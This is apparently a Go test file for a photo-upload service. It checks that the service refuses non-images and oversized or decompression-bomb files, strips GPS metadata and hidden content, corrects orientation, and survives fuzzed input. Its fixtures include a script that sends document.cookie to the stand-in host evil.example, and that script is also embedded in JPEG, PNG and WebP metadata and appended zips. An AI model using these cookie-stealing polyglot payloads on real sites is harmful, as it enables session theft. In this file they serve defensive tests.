package photos_test

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"wanping/internal/testkit"
	"wanping/models"
)

// The smallest WebP pictures: lossy and lossless.
const (
	webpLossy    = "UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA"
	webpLossless = "UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA=="
)

func webpOf(t testing.TB, text string) []byte {
	t.Helper()
	data, err := base64.StdEncoding.DecodeString(text)
	require.NoError(t, err)
	return data
}

// chunk is a part of a WebP, or with big of a PNG.
func chunk(name string, data []byte, big bool) []byte {
	var b bytes.Buffer
	if big {
		_ = binary.Write(&b, binary.BigEndian, uint32(len(data)))
		b.WriteString(name)
		b.Write(data)
		_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(b.Bytes()[4:]))
		return b.Bytes()
	}
	b.WriteString(name)
	_ = binary.Write(&b, binary.LittleEndian, uint32(len(data)))
	b.Write(data)
	if len(data)%2 == 1 {
		b.WriteByte(0)
	}
	return b.Bytes()
}

// webpWith makes an extended WebP of chunks around a simple one's picture.
func webpWith(t testing.TB, flags byte, chunks ...[]byte) []byte {
	t.Helper()
	extended := chunk("VP8X", []byte{flags, 0, 0, 0, 0, 0, 0, 0, 0, 0}, false)
	body := bytes.Join(append([][]byte{[]byte("WEBP"), extended, webpOf(t, webpLossy)[12:]}, chunks...), nil)
	return append(append([]byte("RIFF"), binary.LittleEndian.AppendUint32(nil, uint32(len(body)))...), body...)
}

// pngWith puts chunks before a PNG's end.
func pngWith(t testing.TB, chunks ...[]byte) []byte {
	t.Helper()
	whole := pngOf(t, quarters(40, 30))
	end := len(whole) - 12
	return bytes.Join(append(append([][]byte{whole[:end]}, chunks...), whole[end:]), nil)
}

// pngHeader is a PNG that claims a size, and holds nothing.
func pngHeader(width, height uint32, depth, colour byte) []byte {
	header := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)
	header = append(header, depth, colour, 0, 0, 0)
	return bytes.Join([][]byte{[]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", header, true), chunk("IDAT", nil, true), chunk("IEND", nil, true)}, nil)
}

// jpegHeader is a JPEG that claims a size with so many scans, and holds nothing.
func jpegHeader(width, height uint16, sof byte, scans int) []byte {
	b := []byte{0xff, 0xd8, 0xff, sof, 0, 17, 8}
	b = binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(b, height), width)
	b = append(b, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1)
	for range scans {
		b = append(b, 0xff, 0xda, 0, 12, 3, 1, 0, 2, 0x11, 3, 0x11, 0, 63, 0)
	}
	return append(b, 0xff, 0xd9)
}

func zipOf(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.Create("evil.html")
	require.NoError(t, err)
	_, err = f.Write([]byte("<script>alert(1)</script>"))
	require.NoError(t, err)
	require.NoError(t, w.Close())
	return b.Bytes()
}

// comment puts a JPEG comment in front.
func comment(body []byte, text string) []byte {
	out := append([]byte{0xff, 0xd8, 0xff, 0xfe}, binary.BigEndian.AppendUint16(nil, uint16(len(text)+2))...)
	return append(append(out, text...), body[2:]...)
}

func TestWhatIsNoPhotoIsRefusedWithWhatToDo(t *testing.T) {
	k := testkit.New(t)
	small := jpegOf(t, quarters(40, 30))
	for name, c := range map[string]struct {
		body []byte
		code models.Code
		say  string
	}{
		"nothing":                            {nil, models.CodePhotoUnreadable, "是空的"},
		"a byte":                             {[]byte{0xff}, models.CodePhotoType, "只收JPEG"},
		"a page":                             {[]byte("<!doctype html><script>alert(1)</script>"), models.CodePhotoType, "只收JPEG"},
		"a drawing with a script":            {[]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), models.CodePhotoType, "只收JPEG"},
		"a PDF":                              {[]byte("%PDF-1.7\n"), models.CodePhotoType, "只收JPEG"},
		"a zip":                              {zipOf(t), models.CodePhotoType, "只收JPEG"},
		"a bitmap":                           {[]byte("BM" + strings.Repeat("\x00", 60)), models.CodePhotoType, "只收JPEG"},
		"a moving GIF":                       {[]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), models.CodePhotoType, "动图"},
		"a moving WebP":                      {webpWith(t, 2, chunk("ANIM", make([]byte, 6), false)), models.CodePhotoType, "动图"},
		"a moving WebP that hides it":        {webpWith(t, 0, chunk("ANMF", make([]byte, 24), false)), models.CodePhotoType, "动图"},
		"an iPhone's HEIC":                   {[]byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), models.CodePhotoType, "苹果手机"},
		"a film":                             {[]byte("\x00\x00\x00\x18ftypisom\x00\x00\x00\x00isommp41"), models.CodePhotoType, "不收视频"},
		"more than 10 MB":                    {append(bytes.Clone(small), make([]byte, 10<<20)...), models.CodePhotoTooLarge, "超过10兆"},
		"a JPEG of 4 gigapixels":             {jpegHeader(65535, 65535, 0xc0, 1), models.CodePhotoPixels, "像素太多"},
		"a progressive of 50 megapixels":     {jpegHeader(8160, 6120, 0xc2, 10), models.CodePhotoPixels, "像素太多"},
		"a progressive of a thousand passes": {jpegHeader(2000, 2000, 0xc2, 1000), models.CodePhotoUnreadable, "打不开"},
		"a JPEG without a height":            {jpegHeader(2000, 0, 0xc0, 1), models.CodePhotoUnreadable, "打不开"},
		"a lossless JPEG":                    {jpegHeader(2000, 2000, 0xc3, 1), models.CodePhotoUnreadable, "打不开"},
		"a PNG of 900 megapixels":            {pngHeader(30000, 30000, 8, 2), models.CodePhotoPixels, "像素太多"},
		"a PNG of 2 billion by 1":            {pngHeader(1<<31-1, 1, 8, 0), models.CodePhotoPixels, "像素太多"},
		"a PNG of 50 megapixels in colour":   {pngHeader(8160, 6120, 8, 6), models.CodePhotoPixels, "像素太多"},
		"a PNG of no size":                   {pngHeader(0, 10, 8, 2), models.CodePhotoUnreadable, "打不开"},
		"a chunk that claims 4 GB":           {append([]byte("\x89PNG\r\n\x1a\n"), "\xff\xff\xff\xffIHDR0000"...), models.CodePhotoUnreadable, "打不开"},
	} {
		_, err := send(t, k, "upload-"+name, c.body)
		require.Equal(t, c.code, models.CodeOf(err), "%s: %v", name, err)
		require.Contains(t, models.MessageOf(err), c.say, name)
		require.Contains(t, models.MessageOf(err), "没有保存", name)
	}
	require.Empty(t, files(t, k))
	require.Zero(t, count(t, k))
}

func count(t testing.TB, k *testkit.Kit) int64 {
	t.Helper()
	var n int64
	require.NoError(t, k.Store.Read(t.Context(), func(tx *models.Tx) (err error) {
		n, err = tx.CountUnclaimedPhotos()
		return err
	}))
	return n
}

func TestAPhotoCutShortIsRefusedAtOnce(t *testing.T) {
	k := testkit.New(t)
	for name, whole := range map[string][]byte{
		"JPEG": jpegOf(t, quarters(16, 16)), "PNG": pngOf(t, quarters(8, 8)), "WebP": webpOf(t, webpLossy), "WebP lossless": webpOf(t, webpLossless),
	} {
		for _, n := range []int{13, 20, 30, len(whole) / 2, len(whole) * 9 / 10, len(whole) - 1} {
			if n >= len(whole) {
				continue
			}
			_, err := send(t, k, fmt.Sprintf("upload-%s-%d", name, n), whole[:n])
			require.Equal(t, models.CodePhotoUnreadable, models.CodeOf(err), "%s cut at %d of %d", name, n, len(whole))
		}
	}
}

// shown sends a photo through everything and returns the JPEG that comes out.
func shown(t testing.TB, k *testkit.Kit, complaint int64, body []byte) []byte {
	t.Helper()
	require.NoError(t, claim(t, k, complaint, sent(t, k, fmt.Sprintf("upload-of-%d", complaint), body)))
	work(t, k)
	out, err := k.Photos.Open(t.Context(), complaint, 1)
	require.NoError(t, err)
	return out
}

// onlyPixels fails where a JPEG holds a segment that is not needed to show it.
func onlyPixels(t testing.TB, out []byte) {
	t.Helper()
	require.Equal(t, "image/jpeg", http.DetectContentType(out))
	at := 2
	for out[at+1] != 0xda {
		marker := out[at+1]
		require.Contains(t, []byte{0xdb, 0xc0, 0xc4}, marker, "a segment %#x", marker)
		at += 2 + int(binary.BigEndian.Uint16(out[at+2:]))
	}
	require.True(t, bytes.HasSuffix(out, []byte{0xff, 0xd9}))
	require.Equal(t, 1, bytes.Count(out, []byte{0xff, 0xd9}), "nothing behind the end")
	_, err := jpeg.Decode(bytes.NewReader(out))
	require.NoError(t, err)
}

const evil = "<script>fetch('//evil.example/'+document.cookie)</script>"

func TestAPhotoThatIsAnotherFileTooIsOnlyAPhotoAfterwards(t *testing.T) {
	k := testkit.New(t)
	picture := jpegOf(t, quarters(64, 48))
	n := int64(0)
	for name, body := range map[string][]byte{
		"a page behind it":         append(bytes.Clone(picture), evil...),
		"a zip behind it":          append(bytes.Clone(picture), zipOf(t)...),
		"a script in its comment":  comment(picture, "*/=1;"+evil+"/*"),
		"a page in a PNG's text":   pngWith(t, chunk("tEXt", []byte("Comment\x00"+evil), true)),
		"a zip behind a PNG":       append(pngOf(t, quarters(40, 30)), zipOf(t)...),
		"a page in a WebP's chunk": webpWith(t, 0, chunk("XMP ", []byte(evil), false)),
	} {
		n++
		out := shown(t, k, n, body)
		onlyPixels(t, out)
		require.NotContains(t, string(out), "script", name)
		require.NotContains(t, string(out), "PK\x03\x04", name)
	}
}

func TestNoPlaceLeavesThePhoto(t *testing.T) {
	k := testkit.New(t)
	const place = "ASCII\x00\x00\x00GPS-27.6612N-120.5655E-Kunyang"
	n := int64(0)
	for name, body := range map[string][]byte{
		"a JPEG's EXIF":       withEXIF(t, jpegOf(t, quarters(64, 48)), 1, place),
		"a JPEG's XMP":        comment(jpegOf(t, quarters(64, 48)), "http://ns.adobe.com/xap/1.0/\x00<exif:GPS>"+place),
		"a PNG's EXIF":        pngWith(t, chunk("eXIf", tiffOf(1, place), true)),
		"a PNG's text":        pngWith(t, chunk("iTXt", []byte("XML:com.adobe.xmp\x00\x00\x00\x00\x00"+place), true)),
		"a WebP's EXIF":       webpWith(t, 8, chunk("EXIF", tiffOf(1, place), false)),
		"the end of the file": append(jpegOf(t, quarters(64, 48)), place...),
	} {
		require.Contains(t, string(body), "Kunyang", name)
		n++
		out := shown(t, k, n, body)
		onlyPixels(t, out)
		require.NotContains(t, string(out), "Kunyang", name)
		require.NotContains(t, string(out), "GPS", name)
	}
	for _, name := range files(t, k) {
		require.True(t, strings.HasSuffix(name, ".jpg"), "what came first is gone: %s", name)
		data, err := os.ReadFile(filepath.Join(k.PhotoFolder, name[:2], name))
		require.NoError(t, err)
		require.NotContains(t, string(data), "Kunyang")
	}
}

func TestAPhoneTurnedAnyWayShowsUpright(t *testing.T) {
	k := testkit.New(t)
	// of the stored picture's corners (1 left top, 2 right top, 3 left bottom, 4 right bottom) what is where afterwards
	want := map[uint16][4]int{
		1: {1, 2, 3, 4}, 2: {2, 1, 4, 3}, 3: {4, 3, 2, 1}, 4: {3, 4, 1, 2},
		5: {1, 3, 2, 4}, 6: {3, 1, 4, 2}, 7: {4, 2, 3, 1}, 8: {2, 4, 1, 3},
	}
	colours := map[[3]bool]int{{true, false, false}: 1, {false, true, false}: 2, {false, false, true}: 3, {true, true, false}: 4}
	for turn, corners := range want {
		out := shown(t, k, int64(turn), withEXIF(t, jpegOf(t, quarters(64, 32)), turn, ""))
		m, err := jpeg.Decode(bytes.NewReader(out))
		require.NoError(t, err)
		width, height := m.Bounds().Dx(), m.Bounds().Dy()
		require.Equal(t, turn >= 5, height > width, "turn %d", turn)
		var got [4]int
		for i, at := range []image.Point{{4, 4}, {width - 5, 4}, {4, height - 5}, {width - 5, height - 5}} {
			r, g, b, _ := m.At(at.X, at.Y).RGBA()
			got[i] = colours[[3]bool{r > 0x8000, g > 0x8000, b > 0x8000}]
		}
		require.Equal(t, corners, got, "turn %d", turn)
	}
}

func TestATransparentPictureIsLaidOnWhite(t *testing.T) {
	k := testkit.New(t)
	m := image.NewNRGBA(image.Rect(0, 0, 20, 20)) // transparent black
	m.SetNRGBA(0, 0, color.NRGBA{0, 0, 0, 1})
	out, err := jpeg.Decode(bytes.NewReader(shown(t, k, 1, pngOf(t, m))))
	require.NoError(t, err)
	r, g, b, _ := out.At(10, 10).RGBA()
	require.Greater(t, min(r, g, b), uint32(0xf000))
}

// Whatever a crafted file does to a decoder, the worker goes on, and what is shown is a photo within its bounds.
func TestCraftedFilesEndNothing(t *testing.T) {
	k := testkit.New(t)
	seeds := [][]byte{
		jpegOf(t, quarters(48, 32)), withEXIF(t, jpegOf(t, quarters(32, 32)), 6, "x"), pngOf(t, quarters(24, 24)),
		webpOf(t, webpLossy), webpOf(t, webpLossless), webpWith(t, 8, chunk("EXIF", tiffOf(3, "x"), false)),
	}
	n := int64(0)
	rapid.Check(t, func(rt *rapid.T) {
		n++
		body := bytes.Clone(rapid.SampledFrom(seeds).Draw(rt, "seed"))
		for range rapid.IntRange(1, 6).Draw(rt, "changes") {
			body[rapid.IntRange(0, len(body)-1).Draw(rt, "at")] = rapid.Byte().Draw(rt, "byte")
		}
		id, err := k.Photos.Receive(t.Context(), uploadFrom(n, body))
		if err != nil {
			require.NotEmpty(rt, models.CodeOf(err), "a refusal that a person may read: %v", err)
			return
		}
		require.NoError(rt, claim(t, k, n, id))
		work(t, k)
		out, err := k.Photos.Open(t.Context(), n, 1)
		if err != nil {
			require.Equal(rt, models.CodePhotoUnreadable, models.CodeOf(err))
			return
		}
		shape, err := jpeg.DecodeConfig(bytes.NewReader(out))
		require.NoError(rt, err)
		require.LessOrEqual(rt, max(shape.Width, shape.Height), 2048)
	})
	for _, name := range files(t, k) {
		require.True(t, strings.HasSuffix(name, ".jpg"), "nothing stays in quarantine: %s", name)
	}
}
